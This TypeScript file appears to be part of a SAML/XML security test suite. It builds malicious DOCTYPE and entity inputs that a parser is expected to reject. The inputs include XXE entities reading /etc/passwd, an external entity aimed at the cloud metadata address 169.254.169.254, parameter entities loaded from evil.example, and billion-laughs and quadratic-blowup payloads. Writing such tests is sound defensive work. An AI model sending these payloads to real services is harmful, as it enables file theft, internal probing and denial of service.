// DOCTYPE and entities: expansion (billion laughs), external entities (XXE), parameter entities, and entities that make one
// parser read another document. CVE-2022-39299, CVE-2026-26278, CVE-2026-33036; xmldom 0.8 parses entity values as markup.

import { type Attack, attacks, plain, SUFFIX, swap } from './kit.ts';
import { signed } from './seal.ts';

const SIGNED = signed();
const before = (doctype: string, xml = SIGNED) => `${doctype}${xml}`;
const inNameId = (reference: string, xml = SIGNED) => swap(xml, `alice@${SUFFIX}`, reference);
const laughs = [
  '<!ENTITY a0 "ha">',
  ...[...Array(12).keys()].map((i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`),
].join('');

const DOCTYPES: Readonly<Record<string, string>> = {
  bare: before('<!DOCTYPE x>'),
  'with an empty subset': before('<!DOCTYPE samlp:Response []>'),
  'in lower case': before('<!doctype x>'),
  'in mixed case': before('<!DocType x>'),
  'behind a declaration': `<?xml version="1.0"?><!DOCTYPE x>${SIGNED}`,
  'behind a comment': before('<!--x--><!DOCTYPE x>'),
  'behind white space': before('\n <!DOCTYPE x>\n'),
  'with an external subset': before('<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'),
  'with a public identifier': before('<!DOCTYPE x PUBLIC "-//x//y" "http://evil.example/x.dtd">'),
  'with an external entity (XXE)': before('<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>', inNameId('&f;')),
  'with an external entity over http': before(
    '<!DOCTYPE x [<!ENTITY f SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
    inNameId('&f;'),
  ),
  'with a parameter entity': before('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>'),
  'with an entity for the NameID': before(`<!DOCTYPE x [<!ENTITY n "alice@${SUFFIX}">]>`, inNameId('&n;')),
  'with billion laughs': before(`<!DOCTYPE x [${laughs}]>`, inNameId('&a12;')),
  'with quadratic blow-up': before(`<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]>`, inNameId('&a;'.repeat(1000))),
  'with an entity that holds itself': before('<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', inNameId('&a;')),
  'with a named entity redefined': before('<!DOCTYPE x [<!ENTITY amp "&#60;">]>', inNameId('alice&amp;x')),
  'with the genuine document in an entity': before(
    `<!DOCTYPE x [<!ENTITY a '${SIGNED.replaceAll("'", '&#39;')}'>]>`,
    plain(),
  ),
  'with a default attribute': before('<!DOCTYPE x [<!ATTLIST saml:Assertion ID ID "_assertion">]>'),
  'with an ID attribute declared': before('<!DOCTYPE x [<!ATTLIST saml:NameID Format ID #IMPLIED>]>'),
  'with a notation': before('<!DOCTYPE x [<!NOTATION n SYSTEM "x">]>'),
  'with an element declared': before('<!DOCTYPE x [<!ELEMENT x ANY>]>'),
  'with a PI in it': before('<!DOCTYPE x [<?x y?>]>'),
  'with a conditional section': before('<!DOCTYPE x [<![INCLUDE[<!ENTITY a "b">]]>]>'),
  'never closed': before('<!DOCTYPE x ['),
  'without a blank': before('<!DOCTYPEx>'),
  'inside the root': swap(SIGNED, '<samlp:Status>', '<!DOCTYPE x><samlp:Status>'),
  'inside the NameID': inNameId(`<!DOCTYPE x [<!ENTITY e "x">]>alice@${SUFFIX}`),
  'behind the root': `${SIGNED}<!DOCTYPE x>`,
  twice: before('<!DOCTYPE x><!DOCTYPE y>'),
  'of HTML before SAML': before('<!DOCTYPE samlp:Response SYSTEM "about:legacy-compat">'),
};

const REFERENCES: Readonly<Record<string, string>> = {
  'an entity of HTML': inNameId(`alice&nbsp;@${SUFFIX}`),
  'an entity that nobody declared': inNameId('&x;'),
  'an entity of prototypes': inNameId('&constructor;'),
  'a reference to NUL': inNameId(`alice&#0;@${SUFFIX}`),
  'a reference to ESC': inNameId(`alice&#27;@${SUFFIX}`),
  'a reference to a surrogate': inNameId(`alice&#xD800;@${SUFFIX}`),
  'a reference to U+FFFF': inNameId(`alice&#xFFFF;@${SUFFIX}`),
  'a reference beyond Unicode': inNameId(`alice&#x110000;@${SUFFIX}`),
  'a reference of many digits': inNameId(`alice&#${'9'.repeat(10_000)};@${SUFFIX}`),
  'a negative reference': inNameId(`alice&#-64;@${SUFFIX}`),
  'a reference with junk': inNameId(`alice&#64zz;@${SUFFIX}`),
  'a hexadecimal reference with X': inNameId(`alice&#X40;${SUFFIX}`),
  'a reference without its semicolon': inNameId(`alice&#64 ${SUFFIX}`),
  'an empty reference': inNameId(`alice&;@${SUFFIX}`),
  'a lone ampersand': inNameId(`alice & bob@${SUFFIX}`),
  'a lone ampersand in an attribute': swap(SIGNED, 'Name="mail"', 'Name="a&b"'),
};

export const DOCTYPES_ATTACKS: readonly Attack[] = [
  ...attacks(DOCTYPES, 'xml-doctype-forbidden'),
  ...attacks(REFERENCES, 'xml-malformed'),
];
